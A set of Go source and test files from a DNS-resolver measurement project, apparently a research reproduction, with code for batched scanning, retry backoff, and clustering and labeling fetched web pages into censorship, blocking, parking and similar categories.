	bs wildnet.BatchSender, build func(u uint32, buf []byte) []byte,
	accept func(u uint32) bool, onFlush func(n int)) (uint64, error) {
	cancellable := ctx.Done() != nil
	limited := s.rate.interval != 0
	bat := probeBatchPool.Get().(*probeBatch)
	defer probeBatchPool.Put(bat)
	var targets [streamBatch]uint32
	var total uint64
	for {
		if cancellable && ctx.Err() != nil {
			return total, ctx.Err()
		}
		var n int
		if genMu != nil {
			genMu.Lock()
			n = gen.NextBatch(targets[:])
			genMu.Unlock()
		} else {
			n = gen.NextBatch(targets[:])
		}
		if n == 0 {
			return total, ctx.Err()
		}
		bat.reset()
		for _, u := range targets[:n] {
			if accept != nil && !accept(u) {
				continue
			}
			if limited {
				s.rate.wait(ctx)
			}
			bat.add(u, build)
		}
		if bat.n == 0 {
			continue
		}
		probes := bat.finish(s.opts.BasePort)
		total += uint64(len(probes))
		if onFlush != nil {
			onFlush(len(probes))
		}
		s.m.batchSize.Observe(int64(len(probes)))
		// Send failures are modeled packet loss, like streamAll's Send.
		bs.SendBatch(ctx, probes)
	}
}

// streamAllBatched is streamAll's bulk variant: the worker pool shares
// the generator and every worker runs batchWorker. Returns the probe
// count, exactly as streamAll counts targets.
func (s *Scanner) streamAllBatched(ctx context.Context, gen *lfsr.TargetGenerator, bs wildnet.BatchSender,
	build func(u uint32, buf []byte) []byte, accept func(u uint32) bool, onFlush func(n int)) (uint64, error) {
	workers := s.opts.Workers
	if workers <= 1 {
		return s.batchWorker(ctx, gen, nil, bs, build, accept, onFlush)
	}
	var (
		genMu sync.Mutex
		total atomic.Uint64
		wg    sync.WaitGroup
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			n, _ := s.batchWorker(ctx, gen, &genMu, bs, build, accept, onFlush)
			total.Add(n)
		}()
	}
	wg.Wait()
	return total.Load(), ctx.Err()
}
