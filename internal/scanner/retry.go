package scanner

import (
	"context"
	"time"

	"goingwild/internal/prand"
)

// BackoffConfig parameterizes the adaptive retransmission delay: round k
// waits Base·2^(k-1), capped at Max, plus a deterministic seeded jitter
// of up to Jitter times the capped delay. All waiting goes through the
// scanner's Clock, so fake-clock tests assert on the exact schedule and
// the in-memory transport (which needs no inter-round delay at all) runs
// with the zero value: no backoff, the pre-existing flat-round behavior.
type BackoffConfig struct {
	// Base is the delay before the first retry round; zero disables
	// backoff entirely.
	Base time.Duration
	// Max caps the exponential growth; zero means uncapped.
	Max time.Duration
	// Jitter is the maximum extra delay as a fraction of the capped
	// delay (e.g. 0.5 adds up to +50%). The jitter is a pure function of
	// (Seed, round), so two runs back off identically.
	Jitter float64
	// Seed keys the jitter draws.
	Seed uint64
}

// delay returns the backoff delay before retry round attempt (1-based).
func (b BackoffConfig) delay(attempt int) time.Duration {
	if b.Base <= 0 || attempt <= 0 {
		return 0
	}
	d := b.Base
	for k := 1; k < attempt; k++ {
		d *= 2
		if b.Max > 0 && d >= b.Max {
			d = b.Max
			break
		}
	}
	if b.Jitter > 0 {
		d += time.Duration(float64(d) * b.Jitter * prand.UnitOf(b.Seed, 0xB0FF, uint64(attempt)))
	}
	return d
}

// backoffWait sleeps the backoff delay before retry round attempt on the
// scanner's clock, cut short by context death.
func (s *Scanner) backoffWait(ctx context.Context, attempt int) error {
	d := s.opts.Backoff.delay(attempt)
	if d <= 0 {
		return ctx.Err()
	}
	return sleepCtx(ctx, s.opts.Clock, d)
}

// deadlineGuard tracks a per-stage deadline budget on the scanner's
// clock. The zero StageDeadline never expires and never reads the clock,
// so the default configuration costs nothing.
type deadlineGuard struct {
	clock    Clock
	start    time.Time
	deadline time.Duration
}

func (s *Scanner) newDeadlineGuard() deadlineGuard {
	g := deadlineGuard{deadline: s.opts.StageDeadline}
	if g.deadline > 0 {
		g.clock = s.opts.Clock
		g.start = g.clock.Now()
	}
	return g
}

// expired reports whether the stage's deadline budget is spent.
func (g *deadlineGuard) expired() bool {
	return g.deadline > 0 && g.clock.Now().Sub(g.start) >= g.deadline
}

// retryRounds is the one retransmission loop every list-targeted scan
// shares (domain scans, CHAOS scans, alive re-probes): send round 0 to
// all n items, settle, then run up to `rounds` retry rounds over the
// still-unanswered items with exponential backoff between rounds, a
// total retransmission budget, and a per-stage deadline budget.
//
// send transmits item i for the given retry attempt (0 for the initial
// round); unanswered reports whether item i still lacks a response (it is
// only consulted between settle-barriered rounds, so implementations may
// lock per item). Retransmission sets are rebuilt in item order, so the
// probes sent are schedule-independent. An expired deadline or exhausted
// budget ends the loop quietly — partial coverage is the graceful
// outcome — while context death surfaces as ctx.Err().
func (s *Scanner) retryRounds(ctx context.Context, rounds, n int,
	send func(i, attempt int), unanswered func(i int) bool) error {
	if err := s.sendAll(ctx, n, func(i int) { send(i, 0) }); err != nil {
		return err
	}
	if err := s.settle(ctx); err != nil {
		return err
	}
	if rounds <= 0 || n == 0 {
		return ctx.Err()
	}
	guard := s.newDeadlineGuard()
	budget := s.opts.RetryBudget
	var pending []int
	for attempt := 1; attempt <= rounds; attempt++ {
		// Checkpoint between retry rounds.
		if err := ctx.Err(); err != nil {
			return err
		}
		if guard.expired() {
			break
		}
		pending = pending[:0]
		for i := 0; i < n; i++ {
			if unanswered(i) {
				pending = append(pending, i)
			}
		}
		if len(pending) == 0 {
			break
		}
		if s.opts.RetryBudget > 0 {
			if budget <= 0 {
				break
			}
			if len(pending) > budget {
				pending = pending[:budget]
			}
			budget -= len(pending)
		}
		if err := s.backoffWait(ctx, attempt); err != nil {
			return err
		}
		batch, a := pending, attempt
		s.m.retryRounds.Inc()
		s.m.retrySpend.Add(uint64(len(batch)))
		if err := s.sendAll(ctx, len(batch), func(k int) { send(batch[k], a) }); err != nil {
			return err
		}
		if err := s.settle(ctx); err != nil {
			return err
		}
	}
	return ctx.Err()
}
