// Package classify implements steps ❺ and ❻ of the processing chain:
// clustering of the acquired HTTP payloads (via the cluster package) and
// the labeling that maps clusters onto the paper's response categories —
// Blocking, Censorship, HTTP Error, Login, Misc, Parking, and Search
// (Table 5) — plus the case-study detectors of §4.3 (ad manipulation,
// transparent proxies, phishing, mail interception, malware delivery).
package classify

import (
	"strings"

	"goingwild/internal/htmlx"
)

// Label is a response category of Table 5.
type Label uint8

// Response labels. LNoPayload covers the 11.1% of tuples without HTTP
// data, which the table's percentages exclude.
const (
	LNoPayload Label = iota
	LBlocking
	LCensorship
	LHTTPError
	LLogin
	LMisc
	LParking
	LSearch
	NumLabels
)

// TableLabels lists the seven Table-5 rows in the paper's order.
var TableLabels = []Label{LBlocking, LCensorship, LHTTPError, LLogin, LMisc, LParking, LSearch}

// String names the label as in Table 5.
func (l Label) String() string {
	switch l {
	case LNoPayload:
		return "No payload"
	case LBlocking:
		return "Blocking"
	case LCensorship:
		return "Censorship"
	case LHTTPError:
		return "HTTP Error"
	case LLogin:
		return "Login"
	case LMisc:
		return "Misc."
	case LParking:
		return "Parking"
	case LSearch:
		return "Search"
	default:
		return "Unknown"
	}
}

// LabelPage is the analyst heuristic applied to a cluster representative:
// the manual labeling of §3.6 distilled into text and structure rules.
func LabelPage(status int, body string, f *htmlx.Features) Label {
	lower := strings.ToLower(body)
	title := strings.ToLower(f.Title)

	// Censorship: the paper flags landing pages by "blocked by the
	// order of [...] court/authority" fragments.
	if strings.Contains(lower, "blocked by the order of") &&
		(strings.Contains(lower, "court") || strings.Contains(lower, "authority")) {
		return LCensorship
	}

	// Blocking: parental control, ISP filters, security organizations,
	// sinkholes.
	if strings.Contains(lower, "has been blocked") ||
		strings.Contains(lower, "sinkhole") ||
		strings.Contains(lower, "parental") ||
		strings.Contains(lower, "threat protection") ||
		strings.Contains(lower, "web guard") {
		return LBlocking
	}

	// HTTP errors: status codes and the default/error page family.
	if status >= 400 {
		return LHTTPError
	}
	for _, marker := range []string{"not found", "forbidden", "bad request", "internal server error", "bad gateway"} {
		if strings.Contains(title, marker) {
			return LHTTPError
		}
	}
	if strings.Contains(lower, "it works!") ||
		strings.Contains(lower, "invalid hostname") ||
		strings.Contains(lower, "no site is configured") ||
		strings.Contains(lower, "default web page") {
		return LHTTPError
	}

	// Parking: resellers and monetized placeholder pages.
	if strings.Contains(lower, "is parked") ||
		strings.Contains(lower, "domain is for sale") ||
		strings.Contains(lower, "buy this domain") {
		return LParking
	}

	// Search: NX monetization and search mimicries.
	if strings.Contains(lower, "did you mean") ||
		strings.Contains(title, "search results") ||
		(hasSearchForm(f) && strings.Contains(lower, "sponsored result")) {
		return LSearch
	}

	// Login: captive portals, router logins, webmail sign-ins.
	if hasPasswordInput(body) &&
		(strings.Contains(title, "login") || strings.Contains(title, "sign-in") ||
			strings.Contains(lower, "sign in") || strings.Contains(lower, "portal") ||
			strings.Contains(lower, "administrator password")) {
		return LLogin
	}

	return LMisc
}

func hasPasswordInput(body string) bool {
	return strings.Contains(body, "type=\"password\"")
}

func hasSearchForm(f *htmlx.Features) bool {
	for _, tag := range f.TagSeq {
		if tag == "form" {
			return true
		}
	}
	return false
}
