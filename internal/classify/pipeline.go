package classify

import (
	"sort"

	"goingwild/internal/cluster"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/fetch"
	"goingwild/internal/htmlx"
	"goingwild/internal/prefilter"
	"goingwild/internal/scanner"
)

// Pipeline wires the classification stages together.
type Pipeline struct {
	Client *fetch.Client
	// ResolverCountry locates a resolver (for Figure 4 and censorship
	// geography).
	ResolverCountry func(resolverIdx int) string
	// ResolverAddr maps a resolver index to its address.
	ResolverAddr func(resolverIdx int) uint32
	// NearResolver reports whether an answer address sits in the same
	// AS or /24 as the resolver (§4.2's no-payload breakdown).
	NearResolver func(ip uint32, resolverIdx int) bool
	// ClusterCutoff is the dendrogram cut distance (default 0.30).
	ClusterCutoff float64
	// MaxReps caps the items fed to the quadratic clustering; beyond
	// it, structurally deduplicated representatives are sampled.
	MaxReps int
	// ProbeCountryInjection reproduces the paper's succeeding
	// experiment (§4.2): sending queries for a domain to randomly
	// chosen addresses of a country and checking whether forged
	// responses are injected in transit. Tuples whose answers point
	// nowhere are labeled Censorship when their country injects for
	// the domain. Optional.
	ProbeCountryInjection func(country, name string) bool
}

// pageKey identifies acquired content.
type pageKey struct {
	nameIdx int
	ip      uint32
}

// page is one acquired (domain, ip) content record.
type page struct {
	key       pageKey
	res       fetch.Result
	features  *htmlx.Features
	label     Label
	clusterID int
}

// GroundTruth holds the trusted representations used for comparison.
type GroundTruth struct {
	Bodies   map[string]string
	Features map[string]*htmlx.Features
	// MailBanners maps MX hostnames to their legitimate banner.
	MailBanners map[string]string
}

// BuildGroundTruth acquires the legitimate dataset through the trusted
// resolvers (§3.5's ground-truth aggregation).
func BuildGroundTruth(client *fetch.Client, trustedResolve func(string) ([]uint32, dnswire.RCode), names []string) *GroundTruth {
	gt := &GroundTruth{
		Bodies:      map[string]string{},
		Features:    map[string]*htmlx.Features{},
		MailBanners: map[string]string{},
	}
	for _, name := range names {
		cn := dnswire.CanonicalName(name)
		addrs, rc := trustedResolve(cn)
		if rc != dnswire.RCodeNoError || len(addrs) == 0 {
			continue
		}
		d, _ := domains.ByName(cn)
		if d.Category == domains.MX {
			if b, ok := client.MailBanner(addrs[0], mailProtoOf(cn)); ok {
				gt.MailBanners[cn] = b
			}
			continue
		}
		for _, a := range addrs {
			r := client.Fetch(cn, a, 0)
			if r.OK {
				gt.Bodies[cn] = r.Body
				gt.Features[cn] = htmlx.Extract(r.Body)
				break
			}
		}
	}
	return gt
}

func mailProtoOf(cn string) string {
	switch {
	case len(cn) >= 4 && cn[:4] == "imap":
		return "imap"
	case len(cn) >= 3 && cn[:3] == "pop":
		return "pop3"
	default:
		return "smtp"
	}
}

// Report is the complete classification outcome.
type Report struct {
	// PairCount is the number of distinct (domain, ip) pairs fetched.
	PairCount int
	// FetchedShare is the share of unexpected tuples with HTTP payload
	// (the paper's 88.9%).
	FetchedShare float64
	// NoPayloadLANShare / NoPayloadNearShare break down the payloadless
	// remainder (§4.2: up to 65.1% LAN, 32.2% same AS or /24).
	NoPayloadLANShare  float64
	NoPayloadNearShare float64
	// Clusters is the coarse-grained cluster count.
	Clusters int
	// Dedup is the structural-deduplication factor: pairs per
	// clustered representative.
	Dedup float64
	// ModClusters is the number of fine-grained modification clusters
	// (§3.6 second stage): groups of pages that differ from their
	// ground-truth representation by similar tag-level edits.
	ModClusters int
	// SmallModifications counts pages within a few tag edits of their
	// ground truth — the injected-modification suspects the fine
	// stage exists to surface.
	SmallModifications int
	// ModClusterSizes lists the fine-grained cluster sizes, largest
	// first.
	ModClusterSizes []int
	// Table5 is the label×category matrix.
	Table5 *Table5
	// TupleLabels[nameIdx][resolverIdx] is each suspicious tuple's
	// label (only set where the prefilter said unexpected).
	TupleLabels map[int]map[int]Label
	// Cases aggregates the §4.3 case studies.
	Cases CaseStudies
}

// Run executes acquisition, clustering, labeling, and aggregation.
func (p *Pipeline) Run(scan *scanner.DomainScanResult, pre *prefilter.Result, gt *GroundTruth) *Report {
	if p.ClusterCutoff == 0 {
		p.ClusterCutoff = 0.30
	}
	if p.MaxReps == 0 {
		p.MaxReps = 800
	}

	// --- Step ❹ bookkeeping: one fetch per (domain, ip) pair. -------
	pages := map[pageKey]*page{}
	tupleIP := map[int]map[int]uint32{} // nameIdx -> resolverIdx -> representative answer IP
	for _, t := range pre.Unexpected {
		if tupleIP[t.NameIdx] == nil {
			tupleIP[t.NameIdx] = map[int]uint32{}
		}
		if _, seen := tupleIP[t.NameIdx][t.ResolverIdx]; !seen {
			tupleIP[t.NameIdx][t.ResolverIdx] = t.IP
		}
		k := pageKey{t.NameIdx, t.IP}
		if _, seen := pages[k]; seen {
			continue
		}
		r := p.Client.Fetch(scan.Names[t.NameIdx], t.IP, p.ResolverAddr(t.ResolverIdx))
		pg := &page{key: k, res: r}
		if r.OK {
			pg.features = htmlx.Extract(r.Body)
		}
		pages[k] = pg
	}

	// --- Step ❺: structural dedup, then hierarchical clustering. ----
	var fetched []*page
	for _, pg := range pages {
		if pg.res.OK {
			fetched = append(fetched, pg)
		}
	}
	sort.Slice(fetched, func(i, j int) bool {
		if fetched[i].key.nameIdx != fetched[j].key.nameIdx {
			return fetched[i].key.nameIdx < fetched[j].key.nameIdx
		}
		return fetched[i].key.ip < fetched[j].key.ip
	})
	reps, repOf := dedupe(fetched)
	if len(reps) > p.MaxReps {
		reps = reps[:p.MaxReps]
	}
	clustering := cluster.Agglomerate(len(reps), func(i, j int) float64 {
		return cluster.FeatureDistance(reps[i].features, reps[j].features)
	}, p.ClusterCutoff)

	// --- Step ❻: label each cluster by its representative pages. ----
	clusterLabel := make([]Label, clustering.Num)
	for c, members := range clustering.Members() {
		votes := map[Label]int{}
		for _, m := range members {
			votes[LabelPage(reps[m].res.Status, reps[m].res.Body, reps[m].features)]++
		}
		// Break vote ties by label value, not map order.
		labels := make([]Label, 0, len(votes))
		for l := range votes {
			labels = append(labels, l)
		}
		sort.Slice(labels, func(i, j int) bool { return labels[i] < labels[j] })
		best, bestN := LMisc, -1
		for _, l := range labels {
			if n := votes[l]; n > bestN {
				best, bestN = l, n
			}
		}
		clusterLabel[c] = best
	}
	for _, pg := range fetched {
		ri, ok := repOf[pg]
		if !ok || ri >= len(reps) {
			// Sampled-out representative: label directly.
			pg.label = LabelPage(pg.res.Status, pg.res.Body, pg.features)
			continue
		}
		pg.clusterID = clustering.Assign[ri]
		pg.label = clusterLabel[clustering.Assign[ri]]
	}

	// --- Aggregate. ---------------------------------------------------
	rep := &Report{
		PairCount:   len(pages),
		Clusters:    clustering.Num,
		Table5:      NewTable5(),
		TupleLabels: map[int]map[int]Label{},
	}
	if len(reps) > 0 {
		rep.Dedup = float64(len(fetched)) / float64(len(reps))
	}
	var withPayload, lan, total int
	for _, pg := range pages {
		total++
		if pg.res.OK {
			withPayload++
			continue
		}
		if pg.res.NoPayload == "lan" {
			lan++
		}
	}
	// Near-resolver breakdown needs tuples, not pairs.
	var noPayloadTuples, nearTuples int
	for ni, byRes := range tupleIP {
		for ri, ip := range byRes {
			pg := pages[pageKey{ni, ip}]
			if pg.res.OK {
				continue
			}
			noPayloadTuples++
			if pg.res.NoPayload != "lan" && p.NearResolver != nil && p.NearResolver(ip, ri) {
				nearTuples++
			}
		}
	}
	if total > 0 {
		rep.FetchedShare = float64(withPayload) / float64(total)
		if total-withPayload > 0 {
			rep.NoPayloadLANShare = float64(lan) / float64(total-withPayload)
		}
	}
	if noPayloadTuples > 0 {
		rep.NoPayloadNearShare = float64(nearTuples) / float64(noPayloadTuples)
	}

	// Label every suspicious tuple and fill Table 5. Payloadless tuples
	// can still be classified as censorship through response behavior:
	// a second (injected) response racing the first, or a positive
	// country-injection probe.
	injectionCache := map[string]bool{}
	injects := func(country, name string) bool {
		if p.ProbeCountryInjection == nil {
			return false
		}
		key := country + "|" + name
		if v, ok := injectionCache[key]; ok {
			return v
		}
		v := p.ProbeCountryInjection(country, name)
		injectionCache[key] = v
		return v
	}
	// Iterate tuples in sorted order, not map order: the labels are
	// order-insensitive, but injects() fires country-injection probes,
	// and under a fault profile every probe advances the transport's
	// retransmission counter — so the probe *sequence* must be the same
	// every run for the draws to be.
	nameIdxs := make([]int, 0, len(tupleIP))
	for ni := range tupleIP {
		nameIdxs = append(nameIdxs, ni)
	}
	sort.Ints(nameIdxs)
	for _, ni := range nameIdxs {
		byRes := tupleIP[ni]
		name := dnswire.CanonicalName(scan.Names[ni])
		d, _ := domains.ByName(name)
		labeled := map[Label]int{}
		classified := 0
		rep.TupleLabels[ni] = map[int]Label{}
		resIdxs := make([]int, 0, len(byRes))
		for ri := range byRes {
			resIdxs = append(resIdxs, ri)
		}
		sort.Ints(resIdxs)
		for _, ri := range resIdxs {
			ip := byRes[ri]
			pg := pages[pageKey{ni, ip}]
			label := LNoPayload
			switch {
			case scan.Answers[ni][ri].Responses > 1:
				// An injected answer raced the legitimate one.
				label = LCensorship
				classified++
			case pg.res.OK:
				label = pg.label
				classified++
			case injects(p.ResolverCountry(ri), name):
				label = LCensorship
				classified++
			}
			rep.TupleLabels[ni][ri] = label
			labeled[label]++
		}
		if classified > 0 {
			rep.Table5.AddDomain(d.Category, name, labeled, classified)
		}
	}
	rep.Table5.Finalize()

	// Fine-grained stage (§3.6): diff each fetched page against the
	// most similar ground-truth representation and cluster the
	// modifications — small diffs with injected tags are how phishing
	// and ad injection surface.
	p.runFineGrained(rep, scan, fetched, gt)

	// Case studies.
	rep.Cases = p.runCaseStudies(scan, pre, gt, pages, tupleIP)
	return rep
}

// runFineGrained computes tag-level modifications of unexpected pages
// relative to ground truth and clusters them.
func (p *Pipeline) runFineGrained(rep *Report, scan *scanner.DomainScanResult, fetched []*page, gt *GroundTruth) {
	var mods []cluster.Modification
	for _, pg := range fetched {
		name := dnswire.CanonicalName(scan.Names[pg.key.nameIdx])
		gtf, ok := gt.Features[name]
		if !ok || pg.res.Body == gt.Bodies[name] {
			continue
		}
		added, removed := cluster.TagDiff(pg.features.TagSeq, gtf.TagSeq)
		m := cluster.Modification{Added: added, Removed: removed}
		if m.Size() == 0 {
			continue
		}
		if m.Size() <= 6 {
			rep.SmallModifications++
		}
		mods = append(mods, m)
		if len(mods) >= p.MaxReps {
			break
		}
	}
	if len(mods) == 0 {
		return
	}
	res := cluster.ClusterModifications(mods, 0.25)
	rep.ModClusters = res.Num
	sizes := make([]int, res.Num)
	for _, c := range res.Assign {
		sizes[c]++
	}
	sort.Sort(sort.Reverse(sort.IntSlice(sizes)))
	rep.ModClusterSizes = sizes
}

// dedupe groups pages with identical structural signatures; the first of
// each group represents the rest in the quadratic clustering, shrinking
// the scale the way the paper's coarse clustering is meant to (§3.6).
func dedupe(fetched []*page) ([]*page, map[*page]int) {
	sigOf := func(pg *page) string {
		var sb []byte
		for _, t := range pg.features.TagSeq {
			sb = append(sb, t...)
			sb = append(sb, '|')
		}
		sb = append(sb, byte(pg.res.Status>>8), byte(pg.res.Status))
		return string(sb)
	}
	repIdx := map[string]int{}
	var reps []*page
	repOf := map[*page]int{}
	for _, pg := range fetched {
		sig := sigOf(pg)
		if i, ok := repIdx[sig]; ok {
			repOf[pg] = i
			continue
		}
		repIdx[sig] = len(reps)
		repOf[pg] = len(reps)
		reps = append(reps, pg)
	}
	return reps, repOf
}
