package classify

import (
	"testing"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/fetch"
	"goingwild/internal/htmlx"
	"goingwild/internal/prefilter"
	"goingwild/internal/scanner"
	"goingwild/internal/websim"
	"goingwild/internal/wildnet"
)

// pipelineRig assembles the full classification stack over a small world
// without going through the core orchestrator.
type pipelineRig struct {
	w      *wildnet.World
	tr     *wildnet.MemTransport
	sc     *scanner.Scanner
	client *fetch.Client
	res    []uint32
}

func newPipelineRig(t *testing.T, order uint) *pipelineRig {
	t.Helper()
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(order))
	if err != nil {
		t.Fatal(err)
	}
	tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	t.Cleanup(func() { tr.Close() })
	tr.SetTime(wildnet.At(50))
	sc := scanner.New(tr, scanner.Options{Workers: 4, Retries: 1, SettleDelay: time.Millisecond})
	sweep, err := sc.Sweep(order, 77, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	web := websim.New(w, wildnet.At(50))
	rig := &pipelineRig{w: w, tr: tr, sc: sc, res: sweep.NOERROR()}
	rig.client = fetch.NewClient(web, nil)
	return rig
}

func (r *pipelineRig) env() prefilter.Env {
	return prefilter.Env{
		TrustedResolve: func(name string) ([]uint32, dnswire.RCode) {
			return r.w.LegitAddrs(name, "DE")
		},
		RDNS: func(ip uint32) (string, bool) {
			n := r.w.RDNS(ip)
			return n, n != ""
		},
		ASOf: r.w.ASNOf,
		CertProbe: func(ip uint32, serverName string, sni bool) (prefilter.Cert, bool) {
			c, ok := r.client.CertProbe(ip, serverName, sni)
			if !ok {
				return prefilter.Cert{}, false
			}
			return prefilter.Cert{Valid: c.Valid, SelfSigned: c.SelfSigned,
				CommonName: c.CommonName, DNSNames: c.DNSNames}, true
		},
		TrustedCDNNames: []string{"static.cdn-global.example"},
	}
}

func (r *pipelineRig) pipeline() *Pipeline {
	return &Pipeline{
		Client: r.client,
		ResolverCountry: func(ri int) string {
			return r.w.Geo().LookupU32(r.res[ri]).Country
		},
		ResolverAddr: func(ri int) uint32 { return r.res[ri] },
		NearResolver: func(ip uint32, ri int) bool {
			return ip>>8 == r.res[ri]>>8 || r.w.ASNOf(ip) == r.w.ASNOf(r.res[ri])
		},
	}
}

func TestPipelineDirectRun(t *testing.T) {
	rig := newPipelineRig(t, 17)
	var names []string
	for _, d := range domains.ByCategory(domains.Adult) {
		names = append(names, d.Name)
	}
	for _, d := range domains.ByCategory(domains.NX) {
		names = append(names, d.Name)
	}
	scan, err := rig.sc.ScanDomains(rig.res, names)
	if err != nil {
		t.Fatal(err)
	}
	pre := prefilter.Run(scan, rig.env())
	if len(pre.Unexpected) == 0 {
		t.Fatal("no unexpected tuples")
	}
	gt := BuildGroundTruth(rig.client, rig.env().TrustedResolve, names)
	rep := rig.pipeline().Run(scan, pre, gt)

	if rep.PairCount == 0 || rep.Clusters == 0 {
		t.Fatalf("degenerate report: %+v", rep)
	}
	if rep.Dedup < 1 {
		t.Errorf("dedup factor = %f", rep.Dedup)
	}
	// Censorship dominates the Adult column even without the injection
	// prober (landing pages carry payload).
	if got := rep.Table5.Share(domains.Adult, LCensorship); got.Avg < 0.3 {
		t.Errorf("Adult censorship avg = %f", got.Avg)
	}
	// Tuple labels cover every unexpected tuple.
	labeled := 0
	for _, byRes := range rep.TupleLabels {
		labeled += len(byRes)
	}
	if labeled == 0 {
		t.Error("no tuple labels")
	}
	if rep.FetchedShare <= 0 || rep.FetchedShare > 1 {
		t.Errorf("fetched share = %f", rep.FetchedShare)
	}
}

func TestPipelineInjectionProberLabelsDarkTuples(t *testing.T) {
	rig := newPipelineRig(t, 18)
	scan, err := rig.sc.ScanDomains(rig.res, []string{"facebook.com"})
	if err != nil {
		t.Fatal(err)
	}
	pre := prefilter.Run(scan, rig.env())
	gt := BuildGroundTruth(rig.client, rig.env().TrustedResolve, []string{"facebook.com"})

	// Without the prober: Chinese dark answers stay unlabeled payload.
	noProbe := rig.pipeline().Run(scan, pre, gt)
	// With a prober that confirms Chinese injection.
	p := rig.pipeline()
	p.ProbeCountryInjection = func(country, name string) bool {
		return country == "CN" && name == "facebook.com"
	}
	withProbe := p.Run(scan, pre, gt)

	censNo := noProbe.Table5.Share(domains.Alexa, LCensorship)
	censYes := withProbe.Table5.Share(domains.Alexa, LCensorship)
	if censYes.Avg <= censNo.Avg {
		t.Errorf("injection prober did not lift censorship share: %.3f → %.3f",
			censNo.Avg, censYes.Avg)
	}
}

func TestDedupeGroupsIdenticalStructures(t *testing.T) {
	rig := newPipelineRig(t, 16)
	// Fabricate pages: three structurally identical, one different.
	mk := func(body string, status int, ni int, ip uint32) *page {
		pg := &page{key: pageKey{ni, ip}, res: fetch.Result{OK: true, Status: status, Body: body}}
		pg.features = htmlx.Extract(body)
		return pg
	}
	_ = rig
	a := mk("<html><title>x</title><div><p>1</p></div></html>", 200, 0, 1)
	b := mk("<html><title>y</title><div><p>2</p></div></html>", 200, 0, 2)
	c := mk("<html><title>z</title><div><p>3</p></div></html>", 200, 1, 3)
	d := mk("<table><tr><td>different</td></tr></table>", 200, 1, 4)
	reps, repOf := dedupe([]*page{a, b, c, d})
	if len(reps) != 2 {
		t.Fatalf("reps = %d, want 2", len(reps))
	}
	if repOf[a] != repOf[b] || repOf[b] != repOf[c] {
		t.Error("identical structures not grouped")
	}
	if repOf[d] == repOf[a] {
		t.Error("different structure grouped")
	}
}
